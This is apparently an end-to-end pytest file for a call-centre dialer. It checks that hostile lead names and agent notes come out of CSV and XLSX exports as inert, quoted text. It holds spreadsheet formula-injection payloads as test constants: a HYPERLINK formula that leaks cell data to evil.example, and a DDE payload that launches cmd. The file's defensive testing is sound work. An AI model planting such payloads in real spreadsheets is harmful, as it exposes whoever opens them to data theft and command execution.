"""Hostile text from a lead file and an agent's note, through a real call to the files and the
terminal output supervisors get: printed as typed, never run by Excel, readable only by ccd."""

from __future__ import annotations

import csv
import io
import os
import stat
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.e2e.conftest import CcdFactory
from tests.e2e.harness import DoubleProcess

pytestmark = pytest.mark.e2e

CAMPAIGN = "=spring q/a:b?[x]"
NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
NOTE = "=cmd|' /C calc'!A0"


async def test_hostile_names_and_notes_reach_exports_as_inert_text(
    ccd: CcdFactory, double_proc: DoubleProcess, tmp_path: Path
) -> None:
    daemon = await ccd("--wrapup-timeout", "30")
    phone = "+74951000001"
    await double_proc.program(phone, "answer", after=2.0, hangup_after=600.0)
    await daemon.cli("trunk", "add", "city1", "--kind", "city", "--template",
                     "PJSIP/{number}@city-trunk", "--channels", "100")  # fmt: skip
    await daemon.cli("route", "add", "+", "city1")
    out = await daemon.cli("campaign", "create", CAMPAIGN, "--mode", "POWER",
                           "--caller-id", "+74951234567", "--hours", "00:00-23:59")  # fmt: skip
    assert f"campaign {CAMPAIGN} created" in out
    leads = tmp_path / "leads.csv"
    with leads.open("w", newline="") as f:  # noqa: ASYNC230 - a test's setup
        csv.writer(f).writerows([["phone", "name"], [phone, NAME], ["@bad", "=1+1"]])
    out = await daemon.cli("campaign", "load", CAMPAIGN, str(leads))
    assert "rejected:    1" in out
    rejects = tmp_path / "leads-rejects.csv"
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
    assert list(csv.reader(io.StringIO(rejects.read_text(encoding="utf-8-sig"))))[1][2:] == [
        "'@bad", "'=1+1",
    ]  # fmt: skip

    token = await daemon.login_agent("anna", "PJSIP/agent101")
    await daemon.cli("campaign", "start", CAMPAIGN)
    await daemon.wait_agent(token, "TALKING")
    attempt_id = (await daemon.get("/api/agent/me", token=token)).body["call"]["attempt_id"]
    await double_proc.hangup(attempt_id)
    await daemon.wait_agent(token, "WRAP_UP")
    reply = await daemon.post(
        "/api/agent/disposition", {"disposition": "VOICEMAIL", "note": NOTE}, token=token
    )
    assert reply.status == 200, reply

    listed = await daemon.cli("campaign", "list")
    assert CAMPAIGN in listed

    xlsx = tmp_path / "attempts.xlsx"
    out = await daemon.cli("export", "attempts", CAMPAIGN, "-f", "xlsx", "-o", str(xlsx))
    assert "1 attempts exported" in out
    assert stat.S_IMODE(xlsx.stat().st_mode) == 0o600
    with zipfile.ZipFile(xlsx) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    ws = openpyxl.load_workbook(xlsx).active
    header = [c.value for c in ws[1]]
    row = dict(zip(header, ws[2], strict=True))
    assert (row["campaign"].value, row["lead_name"].value, row["note"].value) == (
        CAMPAIGN, NAME, NOTE,
    )  # fmt: skip
    assert all(row[c].data_type == "s" for c in ("campaign", "lead_name", "note", "phone"))
    assert row["phone"].value == phone

    exported = tmp_path / "attempts.csv"
    await daemon.cli("export", "attempts", CAMPAIGN, "-o", str(exported))
    assert stat.S_IMODE(os.stat(exported).st_mode) == 0o600
    (got,) = csv.DictReader(io.StringIO(exported.read_text()))
    assert (got["campaign"], got["lead_name"], got["note"], got["phone"]) == (
        "'" + CAMPAIGN, "'" + NAME, "'" + NOTE, phone,
    )  # fmt: skip
